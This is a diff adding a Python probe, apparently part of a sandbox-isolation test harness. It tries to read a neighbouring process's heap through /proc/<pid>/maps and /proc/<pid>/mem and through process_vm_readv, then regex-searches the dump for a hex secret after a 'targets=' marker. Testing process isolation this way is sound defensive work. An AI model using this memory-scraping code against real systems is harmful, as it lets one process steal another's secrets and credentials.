@@ -1,0 +1,30 @@
+"""Read a neighbour's memory through /proc and by process_vm_readv."""
+
+from __future__ import annotations
+
+import ctypes
+import re
+from pathlib import Path
+
+from field import trying
+
+
+def attack(field):
+    with trying():
+        lines = Path(f"/proc/{field.neighbour}/maps").read_text().splitlines()
+        heap = next(line for line in lines if "[heap]" in line).split()[0]
+        low, high = (int(part, 16) for part in heap.split("-"))
+        with trying(), Path(f"/proc/{field.neighbour}/mem").open("rb", 0) as memory:
+            memory.seek(low)
+            search(memory.read(high - low))
+        buffer = ctypes.create_string_buffer(high - low)
+        local = (ctypes.c_size_t * 2)(ctypes.addressof(buffer), high - low)
+        remote = (ctypes.c_size_t * 2)(low, high - low)
+        field.call("process_vm_readv", field.neighbour, local, 1, remote, 1, 0)
+        search(buffer.raw)
+
+
+def search(held):
+    """Print what follows the mark that the neighbour puts before its secret."""
+    found = re.search(rb"targets=[0-9a-f]{32}", held)
+    print(found.group() if found else "")
